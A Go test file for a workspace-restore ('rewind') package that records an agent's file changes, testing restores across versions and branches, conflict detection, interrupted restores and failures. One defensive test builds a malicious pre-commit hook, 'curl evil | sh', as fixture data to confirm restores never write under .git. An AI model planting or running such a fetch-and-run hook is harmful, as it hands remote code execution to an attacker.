package rewind

import (
	"context"
	"errors"
	"maps"
	"strings"
	"testing"

	"retrace/state"
)

var ctx = context.Background()

// A session that writes a file, edits it, creates one, changes another
// and deletes a third: a restore to any version leaves the workspace as it
// was there, backwards and forwards, and onto another branch.
func TestRestoreEveryVersionBothWays(t *testing.T) {
	s := newSession()
	s.files.files["keep.txt"] = file{data: []byte("the person's own file\n"), mode: 0o644}
	s.files.files["old.txt"] = file{data: []byte("old\n"), mode: 0o600}
	at := map[int]map[string]string{s.st.head: s.disk()}
	for _, step := range []map[string]string{
		{"notes.md": "one\n"},
		{"notes.md": "one\ntwo\n"},
		{"made.txt": "made by a command\n", "keep.txt": "changed by a command\n", "old.txt": ""},
		{"notes.md": "three\n"},
	} {
		v := s.write(step)
		at[v] = s.disk()
	}
	tip := s.st.head
	restoreTo := func(v int) Result {
		t.Helper()
		res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], v, Options{})
		if err != nil {
			t.Fatalf("restore to v%d: %v", v, err)
		}
		return res
	}
	for v, want := range at {
		restoreTo(v)
		if got := s.disk(); !maps.Equal(got, want) {
			t.Fatalf("at v%d the workspace holds %q, want %q", v, got, want)
		}
		if s.files.files["old.txt"].mode != 0o600 && want["old.txt"] != "" {
			t.Fatalf("at v%d old.txt came back with mode %o", v, s.files.files["old.txt"].mode)
		}
		restoreTo(tip)
		if got := s.disk(); !maps.Equal(got, at[tip]) {
			t.Fatalf("back at the tip from v%d the workspace holds %q, want %q", v, got, at[tip])
		}
	}

	// A branch from the first write: its own change, then back and forth
	// between the two branches' tips.
	first := minKey(at) + 3 // the tool_finished of the first write
	restoreTo(first)
	branch := s.write(map[string]string{"notes.md": "another way\n", "side.txt": "only on the branch\n"})
	want := s.disk()
	restoreTo(tip)
	if got := s.disk(); !maps.Equal(got, at[tip]) {
		t.Fatalf("on the first branch's tip the workspace holds %q, want %q", got, at[tip])
	}
	restoreTo(branch)
	if got := s.disk(); !maps.Equal(got, want) {
		t.Fatalf("on the second branch's tip the workspace holds %q, want %q", got, want)
	}
}

func minKey(m map[int]map[string]string) int {
	lo := -1
	for k := range m {
		if lo < 0 || k < lo {
			lo = k
		}
	}
	return lo
}

// A restore is two checkpoints on the target version, and the manifest
// there is the target's.
func TestRestoreIsRecorded(t *testing.T) {
	s := newSession()
	before := s.st.head
	s.write(map[string]string{"a.txt": "a\n"})
	tip := s.st.head
	s.files.images = 0
	res, err := Restore(ctx, s.st, s.files, s.st.states[tip], before, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s.files.images != 2 {
		t.Fatalf("the restore read a.txt %d times; twice is enough: once for the conflict check, once just before it is replaced", s.files.images)
	}
	started, closed := s.st.events[res.Head.Version-1], s.st.events[res.Head.Version]
	if started.Kind != state.RestoreStarted || started.From != tip || len(started.Files) != 1 || started.Files[0].Path != "a.txt" ||
		!started.Files[0].After.Absent || s.st.states[res.Head.Version-1].ParentVersion != before {
		t.Fatalf("restore_started: %+v", started)
	}
	if closed.Kind != state.FilesRestored || closed.Text != "restored 1 file to v2 (the workspace was at v5)" {
		t.Fatalf("files_restored: %+v", closed)
	}
	if res.Head.Restoring != nil || len(res.Head.Files) != 0 || res.Restored != 1 || res.Text != closed.Text {
		t.Fatalf("after the restore: %+v", res)
	}
	if _, ok := s.files.files["a.txt"]; ok {
		t.Fatal("a.txt, created after the target, is still there")
	}
}

// A restore along a move already planned loads no version: the caller
// loaded the target once, and a load replays the whole manifest. It does
// what Restore does.
func TestRestoreMoveLoadsNothingAgain(t *testing.T) {
	s := newSession()
	before := s.st.head
	s.write(map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	tip := s.st.head
	move := NewMove(s.st.states[tip], s.st.states[before])
	if len(move.Plan) != 2 {
		t.Fatalf("the plan: %+v", move.Plan)
	}
	s.st.ats = 0
	res, err := RestoreMove(ctx, s.st, s.files, move, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s.st.ats != 0 {
		t.Errorf("the restore loaded %d versions", s.st.ats)
	}
	if res.Restored != 2 || len(s.disk()) != 0 || res.Head.Version != tip+2 || s.st.states[res.Head.Version-1].ParentVersion != before {
		t.Fatalf("after the restore: %+v, files %q", res, s.disk())
	}
}

// Nothing to put back, or --keep-files: only the head moves.
func TestRestoreOnlyMovesTheHead(t *testing.T) {
	s := newSession()
	plain := s.st.head
	s.commit(state.Event{Kind: state.NoteSet, NoteKey: "k", NoteValue: "v"})
	res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], plain, Options{})
	if err != nil || s.st.head != plain || res.Head.Version != plain || res.Text != "" {
		t.Fatalf("a restore with no file to put back: head v%d, %+v, %v", s.st.head, res, err)
	}
	s.write(map[string]string{"a.txt": "a\n"})
	tip := s.st.head
	res, err = Restore(ctx, s.st, s.files, s.st.states[tip], plain, Options{KeepFiles: true})
	if err != nil || s.st.head != plain || s.disk()["a.txt"] != "a\n" || len(s.files.puts) != 0 {
		t.Fatalf("--keep-files: head v%d, files %q, puts %v, %v", s.st.head, s.disk(), s.files.puts, err)
	}
	_ = res
}

// A file edited by hand since the session recorded it is a conflict:
// nothing changes, not even the head, unless the restore is forced.
func TestRestoreRefusesFilesChangedOutside(t *testing.T) {
	s := newSession()
	start := s.st.head
	s.write(map[string]string{"a.txt": "agent\n", "b.txt": "agent\n"})
	tip := s.st.head
	s.files.files["a.txt"] = file{data: []byte("edited by hand\n"), mode: 0o644}
	events := len(s.st.events)
	_, err := Restore(ctx, s.st, s.files, s.st.states[tip], start, Options{})
	var ce *ConflictError
	if !errors.As(err, &ce) || !errors.Is(err, ErrChanged) || len(ce.Conflicts) != 1 || ce.Conflicts[0].Path != "a.txt" {
		t.Fatalf("got %v, want a conflict naming a.txt alone", err)
	}
	if !strings.Contains(err.Error(), "a.txt") || !strings.Contains(err.Error(), "nothing was restored") {
		t.Fatalf("the error does not say what and that nothing changed: %v", err)
	}
	if s.st.head != tip || len(s.st.events) != events || len(s.files.puts) != 0 || s.disk()["b.txt"] != "agent\n" {
		t.Fatalf("a refused restore changed something: head v%d, %d events, puts %v", s.st.head, len(s.st.events)-events, s.files.puts)
	}
	// A mode changed by hand is a change too.
	s.files.files["a.txt"] = file{data: []byte("agent\n"), mode: 0o755}
	if _, err := Restore(ctx, s.st, s.files, s.st.states[tip], start, Options{}); !errors.As(err, &ce) {
		t.Fatalf("a chmod by hand: %v", err)
	}
	s.files.files["a.txt"] = file{data: []byte("edited by hand\n"), mode: 0o644}
	if _, err := Restore(ctx, s.st, s.files, s.st.states[tip], start, Options{Force: true}); err != nil {
		t.Fatal(err)
	}
	if len(s.disk()) != 0 {
		t.Fatalf("--force left %q", s.disk())
	}
}

// A file already holding the target's content is no conflict and is not
// written again.
func TestRestoreSkipsFilesAlreadyThere(t *testing.T) {
	s := newSession()
	start := s.st.head
	s.write(map[string]string{"a.txt": "agent\n", "b.txt": "agent\n"})
	delete(s.files.files, "a.txt") // the person removed it: that is v2's content
	res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], start, Options{})
	if err != nil || res.Restored != 1 || res.Already != 1 || len(s.files.puts) != 1 || s.files.puts[0] != "b.txt" {
		t.Fatalf("restored %d, already %d, puts %v, %v", res.Restored, res.Already, s.files.puts, err)
	}
	if !strings.Contains(res.Text, "1 file already right") {
		t.Fatalf("the record does not say so: %q", res.Text)
	}
}

// Content never kept (a file over the cap) cannot come back: the restore
// says so and leaves the file.
func TestRestoreSaysWhatItCannotRestore(t *testing.T) {
	s := newSession()
	start := s.st.head
	s.calls++
	s.commit(state.Event{Kind: state.AssistantMessage, Messages: []state.Message{{Role: state.RoleAssistant,
		ToolCalls: []state.ToolRequest{{ID: "big", Name: "run_command", Arguments: `{}`}}}}})
	s.commit(state.Event{Kind: state.ToolStarted, Tool: &state.ToolCall{ID: "big"}})
	huge := state.FileImage{Size: 11 << 20, Mode: 0o644, Untracked: "larger than the 10 MiB cap"}
	s.commit(state.Event{Kind: state.ToolFinished, Tool: &state.ToolCall{ID: "big"},
		Files: []state.FileChange{{Path: "big.bin", Before: huge, After: state.FileImage{Absent: true}}}})
	res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], start, Options{})
	if err != nil || len(res.NotRestorable) != 1 || res.NotRestorable[0].Path != "big.bin" || len(s.files.puts) != 0 {
		t.Fatalf("not restorable %v, puts %v, %v", res.NotRestorable, s.files.puts, err)
	}
	if closed := s.st.events[res.Head.Version]; len(closed.Files) != 1 || !strings.Contains(closed.Text, "not restorable (content not kept): big.bin") {
		t.Fatalf("files_restored: %+v", closed)
	}
}

// A restore stopped after some files leaves the head on its open
// restore_started; Finish puts the rest back and records how it ended.
func TestFinishCompletesAStoppedRestore(t *testing.T) {
	for stopAt := 1; stopAt <= 3; stopAt++ {
		s := newSession()
		start := s.st.head
		want := s.disk()
		s.write(map[string]string{"a.txt": "a\n", "b.txt": "b\n", "c.txt": "c\n"})
		if err := stopped(func() error {
			_, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], start, Options{Hook: stopAfter(stopAt - 1)})
			return err
		}); !errors.Is(err, errStopped) {
			t.Fatalf("stop at put %d: %v", stopAt, err)
		}
		open := s.st.states[s.st.head]
		if open.Restoring == nil || open.ParentVersion != start {
			t.Fatalf("stop at put %d: the head is not an open restore: %+v", stopAt, open)
		}
		res, err := Finish(ctx, s.st, s.files, open)
		if err != nil {
			t.Fatal(err)
		}
		if got := s.disk(); !maps.Equal(got, want) {
			t.Fatalf("stop at put %d: after Finish the workspace holds %q", stopAt, got)
		}
		if len(s.files.swept) != 3 {
			t.Fatalf("stop at put %d: Finish swept %v, want the 3 paths of the restore", stopAt, s.files.swept)
		}
		if res.Head.Restoring != nil || res.Restored+res.Already != 3 || res.Already != stopAt-1 ||
			!strings.HasPrefix(res.Text, "interrupted, then finished: ") {
			t.Fatalf("stop at put %d: %+v", stopAt, res)
		}
	}
	// Nothing open: Finish does nothing.
	s := newSession()
	if res, err := Finish(ctx, s.st, s.files, s.st.states[s.st.head]); err != nil || res.Head.Version != s.st.head || len(s.st.events) != 3 {
		t.Fatalf("Finish with no restore open: %+v, %v", res, err)
	}
}

// A file changed by hand while the restore was stopped is left as it is
// when the restore is finished, and listed.
func TestFinishLeavesFilesChangedMeanwhile(t *testing.T) {
	s := newSession()
	start := s.st.head
	s.write(map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	if err := stopped(func() error {
		_, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], start, Options{Hook: stopAfter(0)})
		return err
	}); !errors.Is(err, errStopped) {
		t.Fatal(err)
	}
	s.files.files["b.txt"] = file{data: []byte("by hand\n"), mode: 0o644}
	res, err := Finish(ctx, s.st, s.files, s.st.states[s.st.head])
	if err != nil || len(res.Left) != 1 || res.Left[0].Path != "b.txt" || s.disk()["b.txt"] != "by hand\n" || s.disk()["a.txt"] != "" {
		t.Fatalf("left %v, disk %q, %v", res.Left, s.disk(), err)
	}
	if !strings.Contains(res.Text, "1 file left as it was, changed outside retrace: b.txt") {
		t.Fatalf("the record does not say so: %q", res.Text)
	}
}

// stopAfter is a hook that stops the restore (as a kill would, with no
// further step) once n files are written.
func stopAfter(n int) func(Point, int) {
	return func(p Point, done int) {
		if (p == PointStarted && n == 0) || (p == PointFile && done == n) {
			panic(errStopped)
		}
	}
}

// stopped runs fn and turns a stop into its error.
func stopped(fn func() error) (err error) {
	defer func() {
		if v := recover(); v != nil {
			err = v.(error)
		}
	}()
	return fn()
}

// A file that cannot be written back is listed, and the restore goes on
// and closes: it never stays open for ever.
func TestRestoreGoesOnPastAFileItCannotWrite(t *testing.T) {
	s := newSession()
	start := s.st.head
	s.write(map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	s.files.failAt = 1
	res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], start, Options{})
	if err != nil || res.Head.Restoring != nil || len(res.Failed) != 1 || res.Failed[0].Path != "b.txt" || res.Restored != 1 {
		t.Fatalf("failed %v, restored %d, open %v: %v", res.Failed, res.Restored, res.Head.Restoring, err)
	}
	if !strings.Contains(res.Text, "could not restore b.txt: stopped") || len(s.st.events[res.Head.Version].Files) != 1 {
		t.Fatalf("the record does not say so: %q", res.Text)
	}
}

// Removals come first, deepest first: a directory a command put where a
// file was is emptied before the file is written back.
func TestRestoreRemovesBeforeItWrites(t *testing.T) {
	got := inOrder([]state.FileChange{
		{Path: "a", After: state.FileImage{Blob: "x"}},
		{Path: "a/b", After: state.FileImage{Absent: true}},
		{Path: "a/b/c", After: state.FileImage{Absent: true}},
		{Path: "d", After: state.FileImage{Blob: "y"}},
	})
	var order []string
	for _, c := range got {
		order = append(order, c.Path)
	}
	if strings.Join(order, " ") != "a/b/c a/b a d" {
		t.Fatalf("order %v", order)
	}
}

// A restore whose first record cannot be kept changes nothing: the head
// stays where it was, and so does every file.
func TestRestoreThatCannotBeRecordedChangesNothing(t *testing.T) {
	s := newSession()
	start := s.st.head
	s.write(map[string]string{"a.txt": "a\n"})
	tip := s.st.head
	s.st.refuse = state.RestoreStarted
	if _, err := Restore(ctx, s.st, s.files, s.st.states[tip], start, Options{}); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("got %v", err)
	}
	if s.st.head != tip || s.disk()["a.txt"] != "a\n" || len(s.files.puts) != 0 {
		t.Fatalf("head v%d (was v%d), files %q, puts %v", s.st.head, tip, s.disk(), s.files.puts)
	}
}

// A plan entry under .git (an imported session can carry any) is never
// written: it is listed as not restored, whatever its recorded images say,
// and the rest of the restore goes on.
func TestRestoreNeverWritesUnderGit(t *testing.T) {
	s := newSession()
	start := s.st.head
	s.write(map[string]string{"a.txt": "a\n"})
	hook := []byte("#!/bin/sh\ncurl evil | sh\n")
	s.st.blobs[digest(hook)] = hook
	s.calls++
	s.commit(state.Event{Kind: state.AssistantMessage, Messages: []state.Message{{Role: state.RoleAssistant,
		ToolCalls: []state.ToolRequest{{ID: "git", Name: "run_command", Arguments: `{}`}}}}})
	s.commit(state.Event{Kind: state.ToolStarted, Tool: &state.ToolCall{ID: "git"}})
	s.commit(state.Event{Kind: state.ToolFinished, Tool: &state.ToolCall{ID: "git"}, Files: []state.FileChange{
		{Path: ".git/hooks/pre-commit", Before: image(hook, 0o755), After: state.FileImage{Absent: true}},
		{Path: "sub/.GIT/config", Before: state.FileImage{Absent: true}, After: image(hook, 0o644)},
	}})
	tip := s.st.head
	for _, to := range []int{start, tip} {
		res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], to, Options{Force: true})
		if err != nil {
			t.Fatalf("restore to v%d: %v", to, err)
		}
		for _, p := range s.files.puts {
			if strings.Contains(strings.ToLower(p), ".git/") {
				t.Fatalf("restore to v%d wrote %s", to, p)
			}
		}
		if len(res.Failed) != 2 || !strings.Contains(res.Text, "could not restore .git/hooks/pre-commit") {
			t.Fatalf("restore to v%d does not list the .git paths: %+v", to, res)
		}
		if closed := s.st.events[res.Head.Version]; len(closed.Files) != 2 {
			t.Fatalf("files_restored records %d changes not made, want the 2 under .git", len(closed.Files))
		}
	}
}

// A file saved by the user after the conflict check, just before the
// restore replaces or removes it, is left as the user wrote it and
// listed; the rest is restored, and the record says the restore is
// partial. A forced restore overwrites it.
func TestRestoreLooksAgainBeforeEachFile(t *testing.T) {
	for _, force := range []bool{false, true} {
		s := newSession()
		start := s.st.head
		s.files.files["b.txt"] = file{data: []byte("b before\n"), mode: 0o644}
		s.write(map[string]string{"a.txt": "a\n", "b.txt": "b by the agent\n", "c.txt": "c\n"})
		s.files.beforeReplace = func(p string) {
			if p == "b.txt" || p == "c.txt" {
				s.files.files[p] = file{data: []byte("saved by the user\n"), mode: 0o644}
			}
		}
		res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], start, Options{Force: force})
		if err != nil {
			t.Fatal(err)
		}
		if force {
			if got := s.disk(); !maps.Equal(got, map[string]string{"b.txt": "b before\n"}) || len(res.Left) != 0 {
				t.Fatalf("forced: the workspace holds %q, left %v", got, res.Left)
			}
			continue
		}
		want := map[string]string{"b.txt": "saved by the user\n", "c.txt": "saved by the user\n"}
		if got := s.disk(); !maps.Equal(got, want) {
			t.Fatalf("the workspace holds %q, want %q", got, want)
		}
		if len(res.Left) != 2 || res.Restored != 1 || !strings.Contains(res.Text, "2 files left as they were, changed outside retrace: c.txt, b.txt; the restore is partial") {
			t.Fatalf("left %v, restored %d, text %q", res.Left, res.Restored, res.Text)
		}
		if closed := s.st.events[res.Head.Version]; len(closed.Files) != 2 {
			t.Fatalf("files_restored lists %d changes not made, want 2", len(closed.Files))
		}
	}
}
